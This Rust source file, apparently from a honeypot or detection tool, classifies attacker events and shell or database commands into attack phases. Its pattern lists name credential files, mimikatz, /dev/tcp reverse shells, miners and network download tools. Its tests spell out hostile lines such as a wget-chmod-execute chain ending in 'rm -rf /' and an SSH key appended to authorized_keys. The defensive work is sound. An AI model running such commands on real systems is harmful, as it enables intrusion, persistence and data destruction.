//! In which phase of an attack an event is.

use serde::{Deserialize, Serialize};

use super::facts::Facts;

/// The phases, in the order in which an attack by the book goes through them.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub(crate) enum Phase {
    Recon,
    CredentialAccess,
    InitialAccess,
    Discovery,
    Execution,
    Persistence,
    DefenseEvasion,
    LateralMovement,
    Collection,
    CommandAndControl,
    Impact,
}

impl Phase {
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Phase::Recon => "recon",
            Phase::CredentialAccess => "credential_access",
            Phase::InitialAccess => "initial_access",
            Phase::Discovery => "discovery",
            Phase::Execution => "execution",
            Phase::Persistence => "persistence",
            Phase::DefenseEvasion => "defense_evasion",
            Phase::LateralMovement => "lateral_movement",
            Phase::Collection => "collection",
            Phase::CommandAndControl => "command_and_control",
            Phase::Impact => "impact",
        }
    }
}

/// Most pieces of a command line that are looked at, and most phases of one event.
const MAX_PIECES: usize = 16;

/// Parts of a command, in small letters with single spaces, that say more than its first word.
const PARTS: &[(&str, Phase)] = &[
    ("/etc/shadow", Phase::CredentialAccess),
    ("id_rsa", Phase::CredentialAccess),
    (".aws/credentials", Phase::CredentialAccess),
    ("mimikatz", Phase::CredentialAccess),
    ("authorized_keys", Phase::Persistence),
    (".bashrc", Phase::Persistence),
    ("/etc/rc.local", Phase::Persistence),
    ("/etc/cron", Phase::Persistence),
    ("systemctl enable", Phase::Persistence),
    ("config set dir", Phase::Persistence),
    ("config set dbfilename", Phase::Persistence),
    ("histfile", Phase::DefenseEvasion),
    ("history -c", Phase::DefenseEvasion),
    ("rm -rf /var/log", Phase::DefenseEvasion),
    ("/dev/tcp/", Phase::CommandAndControl),
    ("rm -rf /", Phase::Impact),
    ("of=/dev/", Phase::Impact),
    ("xmrig", Phase::Impact),
    ("minerd", Phase::Impact),
    ("stratum+tcp", Phase::Impact),
];

/// First words of commands, of shells and of databases.
const WORDS: &[(&[&str], Phase)] = &[
    (
        &[
            "uname",
            "id",
            "whoami",
            "w",
            "who",
            "last",
            "ps",
            "top",
            "free",
            "df",
            "mount",
            "uptime",
            "ifconfig",
            "ip",
            "netstat",
            "ss",
            "env",
            "hostname",
            "lscpu",
            "nproc",
            "dmesg",
            "lsmod",
            "lspci",
            "ls",
            "dir",
            "pwd",
            "find",
            "which",
            "arp",
            "route",
            "systeminfo",
            "ipconfig",
            "tasklist",
            "info",
            "getent",
            "groups",
            "locate",
            "du",
            "show",
            "describe",
            "explain",
            "cat",
            "head",
            "tail",
            "less",
            "more",
            "grep",
            "stat",
            "file",
        ],
        Phase::Discovery,
    ),
    (
        &[
            "select",
            "tar",
            "zip",
            "gzip",
            "7z",
            "mysqldump",
            "pg_dump",
            "keys",
            "get",
            "mget",
            "hgetall",
            "scan",
            "copy",
        ],
        Phase::Collection,
    ),
    (&["crontab", "useradd", "adduser", "usermod", "passwd", "chpasswd", "at"], Phase::Persistence),
    (&["chattr", "setenforce", "iptables", "ufw", "shred", "unset", "auditctl"], Phase::DefenseEvasion),
    (
        &["wget", "curl", "tftp", "ftpget", "ftp", "nc", "ncat", "socat", "certutil", "bitsadmin"],
        Phase::CommandAndControl,
    ),
    (&["ssh", "sshpass", "scp", "telnet", "psexec", "rsh", "rlogin", "slaveof", "replicaof"], Phase::LateralMovement),
    (
        &[
            "shutdown", "reboot", "halt", "poweroff", "mkfs", "flushall", "flushdb", "drop", "truncate", "delete",
            "killall", "pkill",
        ],
        Phase::Impact,
    ),
];

/// The phases that an event belongs to, none twice; none for the end of a connection.
pub(crate) fn of(event_type: &str, facts: &Facts) -> Vec<Phase> {
    let one = match event_type {
        "connect" | "scan" | "tls_client_hello" | "unknown" | "request" | "mail_from" | "rcpt_to" => Phase::Recon,
        "auth_attempt" | "auth_fail" => Phase::CredentialAccess,
        "auth_success" => Phase::InitialAccess,
        "download_attempt" | "file_captured" => Phase::CommandAndControl,
        "publish" => Phase::Execution,
        "subscribe" => Phase::Collection,
        // Somebody else's inbox is what it is for.
        "message_accepted" => Phase::Impact,
        "command" => return of_command(facts.command.as_deref().unwrap_or_default()),
        "query" => return of_command(facts.query.as_deref().unwrap_or_default()),
        _ => return Vec::new(),
    };
    vec![one]
}

fn of_command(command: &str) -> Vec<Phase> {
    let command = command.to_lowercase();
    let mut phases = Vec::new();
    for piece in command.split([';', '|', '&', '\n']).map(str::trim).filter(|piece| !piece.is_empty()).take(MAX_PIECES)
    {
        let piece = piece.split_whitespace().collect::<Vec<_>>().join(" ");
        let by_part = PARTS.iter().find(|(part, _)| piece.contains(part)).map(|(_, phase)| *phase);
        let phase = by_part.unwrap_or_else(|| by_word(&piece));
        if !phases.contains(&phase) {
            phases.push(phase);
        }
    }
    phases
}

fn by_word(piece: &str) -> Phase {
    // What only runs something else is no word of its own.
    let carriers = ["sudo", "nohup", "busybox", "exec", "command", "/bin/busybox"];
    let mut words = piece.split(' ').skip_while(|word| carriers.contains(word));
    let word = words.next().unwrap_or_default();
    let name = word.rsplit('/').next().unwrap_or(word);
    let known = WORDS.iter().find(|(words, _)| words.contains(&name));
    known.map_or(Phase::Execution, |(_, phase)| *phase)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn of_line(command: &str) -> Vec<Phase> {
        of("command", &Facts { command: Some(command.into()), ..Facts::default() })
    }

    #[test]
    fn events_have_their_phases() {
        let of = |event_type| of(event_type, &Facts::default());
        assert_eq!(of("connect"), [Phase::Recon]);
        assert_eq!(of("auth_fail"), [Phase::CredentialAccess]);
        assert_eq!(of("auth_success"), [Phase::InitialAccess]);
        assert_eq!(of("file_captured"), [Phase::CommandAndControl]);
        assert_eq!(of("disconnect"), []);
        assert_eq!(of("something else"), []);
        assert_eq!(of("command"), []);
    }

    #[test]
    fn commands_are_told_apart_by_what_they_do() {
        assert_eq!(of_line("uname -a"), [Phase::Discovery]);
        assert_eq!(of_line("cat /etc/passwd"), [Phase::Discovery]);
        assert_eq!(of_line("cat  /etc/shadow"), [Phase::CredentialAccess]);
        assert_eq!(of_line("/bin/busybox wget http://192.0.2.1/x"), [Phase::CommandAndControl]);
        assert_eq!(of_line("sudo /usr/bin/crontab -e"), [Phase::Persistence]);
        assert_eq!(of_line("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), [Phase::Persistence]);
        assert_eq!(of_line("./x.sh"), [Phase::Execution]);
        assert_eq!(of_line("unset HISTFILE"), [Phase::DefenseEvasion]);
        assert_eq!(
            of_line("cd /tmp; wget http://192.0.2.1/x && chmod +x x && ./x | rm -rf /"),
            [Phase::Execution, Phase::CommandAndControl, Phase::Impact]
        );
        assert_eq!(of_line("FLUSHALL"), [Phase::Impact]);
        let query = Facts { query: Some("SELECT * FROM users".into()), ..Facts::default() };
        assert_eq!(of("query", &query), [Phase::Collection]);
    }

    proptest! {
        #[test]
        fn any_command_is_read(command in any::<String>()) {
            let phases = of_line(&command);
            prop_assert!(phases.len() <= 11);
        }
    }
}
